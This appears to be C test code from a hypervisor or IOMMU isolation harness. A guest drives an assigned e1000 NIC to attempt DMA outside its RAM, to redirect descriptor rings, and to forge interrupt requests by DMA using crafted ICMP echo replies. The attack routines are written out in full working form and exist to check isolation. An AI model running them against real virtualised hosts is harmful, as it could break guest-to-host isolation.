/* DMA attacks through the (assigned) e1000: descriptors and rings that
 * point outside guest RAM, at GPAs equal to host addresses, and into the
 * interrupt window.  The guest sees only whether the NIC consumed the
 * descriptor and whether a frame went out or came in; the IOMMU's fault
 * records are the host's side of the story. */
#include <string.h>

#include "guest/prog/attack.h"
#include "drivers/e1000/e1000_regs.h"
#include "guest/kernel/cmdline.h"

#define MAX_ADDRS 8

static uint32_t clear_gptc(struct anic *n) { return anic__rd(n, E1000_GPTC); }

/* TX from addr: 0 if no frame left the NIC, 1 if one did. */
static int tx_from(const char *name, struct anic *n, uint64_t addr)
{
    clear_gptc(n);
    ATTACK_TRY(name, "TX descriptor, buffer at 0x%llx, 64 bytes (device reads)", (unsigned long long)addr);
    int st = anic__tx(n, addr, 64);
    uint32_t sent = anic__rd(n, E1000_GPTC);
    if (st < 0)
        ATTACK_SAW(name, "NIC did not consume the descriptor (TDH stuck at %u)", anic__rd(n, E1000_TDH));
    else
        ATTACK_SAW(name, "descriptor consumed (status 0x%x), frames transmitted: %u", st, sent);
    return sent ? 1 : 0;
}

/* RX into addr: the NIC gets one descriptor whose buffer is addr; ARP
 * requests make Linux answer.  0 if the ring did not move (frame dropped),
 * 1 if the NIC wrote a frame. */
static int rx_to(const char *name, struct kernel *k, struct anic *n, uint64_t addr)
{
    unsigned slot = anic__rd(n, E1000_RDH) % ANIC_NDESC;
    n->rx[slot] = (struct e1000_rx_desc){.buffer_addr = addr};
    hal__mb();
    anic__wr(n, E1000_RDT, (slot + 1) % ANIC_NDESC);
    ATTACK_TRY(name, "RX descriptor %u, buffer at 0x%llx (device writes the ARP reply there)", slot,
               (unsigned long long)addr);
    anic__arp_frame(n);
    unsigned rdh = slot;
    /* TPR (read-to-clear) counts every frame that reached the NIC, before
     * its DMA: wait (bounded) until one did, so the write was attempted. */
    uint32_t arrived = 0;
    anic__rd(n, E1000_TPR);
    for (unsigned i = 0; i < 20 && !arrived && rdh == slot; i++) {
        if (i % 3 == 0)
            anic__tx(n, hal__dma_addr(n->frame), 60);
        attack__sleep_ms(k, 50);
        arrived += anic__rd(n, E1000_TPR);
        rdh = anic__rd(n, E1000_RDH) % ANIC_NDESC;
    }
    attack__sleep_ms(k, 20);
    rdh = anic__rd(n, E1000_RDH) % ANIC_NDESC;
    if (!arrived && rdh == slot)
        ATTACK_SAW(name, "no frame arrived within 1 s (the DMA was not attempted)");
    uint8_t st = ((volatile struct e1000_rx_desc *)&n->rx[slot])->status;
    if (rdh == slot && !(st & E1000_RXD_STAT_DD)) {
        ATTACK_SAW(name, "ring did not advance (RDH %u, status 0x%x): the frame was dropped", rdh, st);
        return 0;
    }
    ATTACK_SAW(name, "NIC wrote a frame (RDH %u, status 0x%x, length %u)", rdh, st,
               ((volatile struct e1000_rx_desc *)&n->rx[slot])->length);
    return 1;
}

/* The NIC still works with the guest's own memory afterwards. */
static void control(const char *name, struct kernel *k, struct anic *n)
{
    anic__arp_frame(n);
    clear_gptc(n);
    int st = anic__tx(n, hal__dma_addr(n->frame), 60);
    uint32_t sent = anic__rd(n, E1000_GPTC);
    unsigned slot = anic__rd(n, E1000_RDH) % ANIC_NDESC;
    n->rx[slot] = (struct e1000_rx_desc){.buffer_addr = hal__dma_addr(n->buf + slot * 2048)};
    hal__mb();
    anic__wr(n, E1000_RDT, (slot + 1) % ANIC_NDESC);
    anic__tx(n, hal__dma_addr(n->frame), 60);
    attack__sleep_ms(k, 100);
    ATTACK_SAW(name, "control: own-memory TX status 0x%x sent %u, RX ring moved %s", st < 0 ? 0 : st, sent,
               anic__rd(n, E1000_RDH) % ANIC_NDESC != slot ? "yes" : "no");
}

int attack_dma__tx(struct kernel *k, int argc, char **argv)
{
    struct anic n;
    uint64_t a[MAX_ADDRS];
    if (anic__open(k, &n))
        return 2;
    unsigned na = attack__addrs(k, argc, argv, a, MAX_ADDRS), leaked = 0;
    for (unsigned i = 0; i < na; i++)
        leaked += attack__in_ram(k, a[i], 64) ? 0 : tx_from("dma_tx", &n, a[i]);
    control("dma_tx", k, &n);
    return leaked ? 1 : 0;
}

int attack_dma__rx(struct kernel *k, int argc, char **argv)
{
    struct anic n;
    uint64_t a[MAX_ADDRS];
    if (anic__open(k, &n))
        return 2;
    unsigned na = attack__addrs(k, argc, argv, a, MAX_ADDRS), written = 0;
    for (unsigned i = 0; i < na; i++)
        written += attack__in_ram(k, a[i], 2048) ? 0 : rx_to("dma_rx", k, &n, a[i]);
    control("dma_rx", k, &n);
    return written ? 1 : 0;
}

int attack_dma__ring(struct kernel *k, int argc, char **argv)
{
    struct anic n;
    uint64_t a[MAX_ADDRS];
    if (anic__open(k, &n))
        return 2;
    unsigned na = attack__addrs(k, argc, argv, a, MAX_ADDRS), bad = 0;
    for (unsigned i = 0; i < na; i++) {
        clear_gptc(&n);
        ATTACK_TRY("dma_ring", "TX ring at 0x%llx (device fetches descriptors there)", (unsigned long long)a[i]);
        anic__wr(&n, E1000_TCTL, 0);
        anic__wr(&n, E1000_TDBAL, (uint32_t)a[i]);
        anic__wr(&n, E1000_TDBAH, (uint32_t)(a[i] >> 32));
        anic__wr(&n, E1000_TDLEN, 128);
        anic__wr(&n, E1000_TDH, 0);
        anic__wr(&n, E1000_TDT, 0);
        anic__wr(&n, E1000_TCTL, E1000_TCTL_EN | E1000_TCTL_PSP);
        anic__wr(&n, E1000_TDT, 4);
        attack__sleep_ms(k, 50);
        uint32_t sent = anic__rd(&n, E1000_GPTC);
        ATTACK_SAW("dma_ring", "TDH %u, frames transmitted %u", anic__rd(&n, E1000_TDH), sent);
        bad += sent && !attack__in_ram(k, a[i], 128);
        uint64_t rxb = a[i] + 0x10000; /* another page, so the two faults differ */
        ATTACK_TRY("dma_ring", "RX ring at 0x%llx (device reads descriptors and writes them back there)",
                   (unsigned long long)rxb);
        uint32_t rctl = anic__rd(&n, E1000_RCTL);
        anic__wr(&n, E1000_RCTL, 0);
        anic__wr(&n, E1000_RDBAL, (uint32_t)rxb);
        anic__wr(&n, E1000_RDBAL + 4, (uint32_t)(rxb >> 32));
        anic__wr(&n, E1000_RDLEN, 128);
        anic__wr(&n, E1000_RDH, 0);
        anic__wr(&n, E1000_RDT, 4);
        anic__wr(&n, E1000_RCTL, rctl);
        /* restore a sane TX ring (transmitter off meanwhile) so the ARP
         * request that provokes RX goes out */
        anic__wr(&n, E1000_TCTL, 0);
        anic__wr(&n, E1000_TDBAL, (uint32_t)hal__dma_addr(n.tx));
        anic__wr(&n, E1000_TDBAH, 0);
        anic__wr(&n, E1000_TDLEN, ANIC_NDESC * E1000_DESC_SIZE);
        anic__wr(&n, E1000_TDH, 0);
        anic__wr(&n, E1000_TDT, 0);
        anic__wr(&n, E1000_TCTL, E1000_TCTL_EN | E1000_TCTL_PSP);
        n.tx_tail = 0;
        anic__arp_frame(&n);
        anic__rd(&n, E1000_TPR);
        uint32_t arrived = 0, rdh = 0;
        int st = -1;
        for (unsigned j = 0; j < 20 && !arrived; j++) {
            if (j % 3 == 0)
                st = anic__tx(&n, hal__dma_addr(n.frame), 60);
            attack__sleep_ms(k, 50);
            arrived += anic__rd(&n, E1000_TPR);
        }
        attack__sleep_ms(k, 20);
        rdh = anic__rd(&n, E1000_RDH);
        ATTACK_SAW("dma_ring", "ARP request TX status %d, frames arrived %u, RDH %u (%s)", st, arrived, rdh,
                   rdh ? "ring advanced" : "frame dropped");
        bad += rdh && !attack__in_ram(k, rxb, 128);
        anic__wr(&n, E1000_RCTL, 0);
        anic__wr(&n, E1000_RDBAL, (uint32_t)hal__dma_addr(n.rx));
        anic__wr(&n, E1000_RDBAL + 4, 0);
        anic__wr(&n, E1000_RDLEN, ANIC_NDESC * E1000_DESC_SIZE);
        anic__wr(&n, E1000_RDH, 0);
        anic__wr(&n, E1000_RDT, 0);
        anic__wr(&n, E1000_RCTL, rctl);
    }
    control("dma_ring", k, &n);
    return bad ? 1 : 0;
}

/* GPAs that equal host addresses: the IOMMU translates GPA -> HPA inside
 * this guest's domain, so they fault or land in the guest's own RAM.  An
 * in-RAM target page is saved and restored around the RX write. */
int attack_dma__hpa(struct kernel *k, int argc, char **argv)
{
    struct anic n;
    uint64_t a[MAX_ADDRS];
    if (argc < 2) {
        kprintf("usage: attack dma_hpa ADDR...\n");
        return 2;
    }
    if (anic__open(k, &n))
        return 2;
    uint8_t *save = kernel__alloc_pages(k, 1);
    if (!save)
        return 2;
    unsigned na = attack__addrs(k, argc, argv, a, MAX_ADDRS), bad = 0;
    for (unsigned i = 0; i < na; i++) {
        uint64_t page = a[i] & ~0xFFFull;
        bool own = attack__in_ram(k, page, 4096);
        int sent = tx_from("dma_hpa", &n, a[i]);
        if (!own)
            bad += sent;
        if (own) {
            memcpy(save, (void *)(uintptr_t)page, 4096);
            int wrote = rx_to("dma_hpa", k, &n, a[i]);
            bool changed = memcmp(save, (void *)(uintptr_t)page, 4096) != 0;
            memcpy((void *)(uintptr_t)page, save, 4096);
            ATTACK_SAW("dma_hpa", "0x%llx is my own GPA: write %s my own page (%s)", (unsigned long long)a[i],
                       changed ? "landed in" : "did not change", wrote ? "frame written" : "dropped");
        } else {
            bad += rx_to("dma_hpa", k, &n, a[i]);
        }
    }
    control("dma_hpa", k, &n);
    return bad ? 1 : 0;
}

/* ---- dma_msi: an interrupt request made by DMA -------------------------- */

/* An interrupt request is a DWORD write to 0xFEExxxxx (VT-d 3.14, 5.1).  The
 * NIC writes a received frame into its descriptors' buffers in order; with
 * 256-byte buffers a 260-byte frame leaves exactly its last 4 bytes for the
 * second buffer: one DWORD write whose data the attacker chooses.  Linux
 * echoes an ICMP echo request's payload, so the attacker picks those bytes.
 * (Wojtczuk & Rutkowska, "Following the White Rabbit", 2011.) */
#define MSI_FRAME 260u
#define MSI_BSIZE 256u

static uint16_t csum16(const uint8_t *p, unsigned len)
{
    uint32_t s = 0;
    for (unsigned i = 0; i + 1 < len; i += 2)
        s += (uint32_t)p[i] << 8 | p[i + 1];
    if (len & 1)
        s += (uint32_t)p[len - 1] << 8;
    while (s >> 16)
        s = (s & 0xFFFF) + (s >> 16);
    return (uint16_t)~s;
}

/* Linux's MAC from its ARP reply (own buffers, 2 KiB); 0 or -1. */
static int learn_peer(struct kernel *k, struct anic *n, uint8_t peer[6])
{
    for (unsigned tries = 0; tries < 10; tries++) {
        unsigned slot = anic__rd(n, E1000_RDH) % ANIC_NDESC;
        n->rx[slot] = (struct e1000_rx_desc){.buffer_addr = hal__dma_addr(n->buf + slot * 2048)};
        hal__mb();
        anic__wr(n, E1000_RDT, (slot + 1) % ANIC_NDESC);
        anic__arp_frame(n);
        anic__tx(n, hal__dma_addr(n->frame), 60);
        for (unsigned i = 0; i < 20 && anic__rd(n, E1000_RDH) % ANIC_NDESC == slot; i++)
            attack__sleep_ms(k, 10);
        if (anic__rd(n, E1000_RDH) % ANIC_NDESC == slot)
            continue;
        const uint8_t *f = n->buf + slot * 2048;
        if (f[12] == 0x08 && f[13] == 0x06 && f[21] == 2 && f[28] == 10 && f[31] == 1) {
            memcpy(peer, f + 22, 6);
            return 0;
        }
    }
    return -1;
}

/* An ICMP echo request 10.0.2.15 -> 10.0.2.1 whose reply is MSI_FRAME bytes
 * ending in the little-endian dword `data`. */
static void echo_frame(struct anic *n, const uint8_t peer[6], uint32_t data, uint16_t seq)
{
    uint8_t *f = n->frame;
    unsigned ip_len = MSI_FRAME - 14, icmp_len = ip_len - 20;
    memset(f, 0, MSI_FRAME);
    memcpy(f, peer, 6);
    memcpy(f + 6, n->mac, 6);
    f[12] = 0x08, f[13] = 0x00;
    uint8_t *ip = f + 14;
    ip[0] = 0x45, ip[2] = (uint8_t)(ip_len >> 8), ip[3] = (uint8_t)ip_len, ip[8] = 64, ip[9] = 1;
    ip[12] = 10, ip[13] = 0, ip[14] = 2, ip[15] = 15;
    ip[16] = 10, ip[17] = 0, ip[18] = 2, ip[19] = 1;
    uint16_t c = csum16(ip, 20);
    ip[10] = (uint8_t)(c >> 8), ip[11] = (uint8_t)c;
    uint8_t *icmp = ip + 20;
    icmp[0] = 8, icmp[4] = 0x1F, icmp[5] = 0xEE, icmp[6] = (uint8_t)(seq >> 8), icmp[7] = (uint8_t)seq;
    for (unsigned i = 8; i < icmp_len - 4; i++)
        icmp[i] = (uint8_t)i;
    for (unsigned i = 0; i < 4; i++)
        f[MSI_FRAME - 4 + i] = (uint8_t)(data >> (8 * i));
    c = csum16(icmp, icmp_len);
    icmp[2] = (uint8_t)(c >> 8), icmp[3] = (uint8_t)c;
}

/* One interrupt request by DMA: 0 once the NIC made the DWORD write (it
 * completed both descriptors), -1 if it never did. */
static int msi_by_dma(struct kernel *k, struct anic *n, const uint8_t peer[6], uint64_t addr, uint32_t data)
{
    for (unsigned tries = 0; tries < 6; tries++) {
        unsigned slot = anic__rd(n, E1000_RDH) % ANIC_NDESC, second = (slot + 1) % ANIC_NDESC;
        n->rx[slot] = (struct e1000_rx_desc){.buffer_addr = hal__dma_addr(n->buf + slot * 2048)};
        n->rx[second] = (struct e1000_rx_desc){.buffer_addr = addr};
        hal__mb();
        anic__wr(n, E1000_RDT, (slot + 2) % ANIC_NDESC);
        ATTACK_TRY("dma_msi", "RX of a %u-byte echo reply into buffers of %u: its last 4 bytes (0x%x) "
                   "as one DWORD write to 0x%llx", MSI_FRAME, MSI_BSIZE, data, (unsigned long long)addr);
        echo_frame(n, peer, data, (uint16_t)tries);
        anic__tx(n, hal__dma_addr(n->frame), MSI_FRAME);
        unsigned rdh = slot;
        for (unsigned i = 0; i < 30 && rdh != (slot + 2) % ANIC_NDESC; i++) {
            attack__sleep_ms(k, 10);
            rdh = anic__rd(n, E1000_RDH) % ANIC_NDESC;
        }
        volatile struct e1000_rx_desc *d = &n->rx[second];
        if (rdh == (slot + 2) % ANIC_NDESC && d->length == 4 && (d->status & E1000_RXD_STAT_EOP)) {
            ATTACK_SAW("dma_msi", "the NIC completed the 4-byte write to 0x%llx (whether it raised an "
                       "interrupt only the host can tell)", (unsigned long long)addr);
            return 0;
        }
        /* another frame took a descriptor, or none came: start again */
        ATTACK_SAW("dma_msi", "no clean 2-descriptor receive (RDH %u -> %u, length %u): again", slot, rdh,
                   d->length);
        anic__wr(n, E1000_RDT, rdh); /* nothing left posted */
    }
    return -1;
}

/* attack dma_msi [VECTOR [HANDLE...]]: illegal requests to the window (a
 * TX read, a whole-frame RX write), then interrupt requests by DMA: a
 * compatibility-format one to CPU 0 with data VECTOR (default 0x61), and
 * one remappable-format request per HANDLE (an IRTE index). */
int attack_dma__msi(struct kernel *k, int argc, char **argv)
{
    struct anic n;
    uint64_t vector = 0x61;
    if (argc > 1 && cmdline__parse_u64(argv[1], &vector)) {
        kprintf("usage: attack dma_msi [VECTOR [HANDLE...]]\n");
        return 2;
    }
    if (anic__open(k, &n))
        return 2;
    int bad = rx_to("dma_msi", k, &n, 0xFEE40000ull); /* a 60-byte write: not a DWORD */
    bad += tx_from("dma_msi", &n, 0xFEE00000ull);      /* a read */
    uint8_t peer[6];
    if (learn_peer(k, &n, peer)) {
        kprintf("ATTACK dma_msi: no ARP reply from 10.0.2.1\n");
        return 2;
    }
    uint32_t rctl = anic__rd(&n, E1000_RCTL);
    anic__wr(&n, E1000_RCTL, (rctl & ~E1000_RCTL_BSIZE_MASK) | E1000_RCTL_BSIZE_256 | E1000_RCTL_SECRC);
    int failed = 0;
    failed += msi_by_dma(k, &n, peer, 0xFEE00000ull, (uint32_t)vector) != 0;
    for (int i = 2; i < argc; i++) {
        uint64_t h;
        if (cmdline__parse_u64(argv[i], &h) || h > 0xFFFF)
            continue;
        uint64_t addr = 0xFEE00000ull | 1u << 4 | (h & 0x7FFF) << 5 | ((h >> 15) & 1) << 2;
        failed += msi_by_dma(k, &n, peer, addr, 0) != 0;
    }
    anic__wr(&n, E1000_RCTL, rctl);
    if (failed)
        kprintf("ATTACK dma_msi: %d interrupt request(s) could not be made\n", failed);
    control("dma_msi", k, &n);
    return bad ? 1 : failed ? 2 : 0;
}
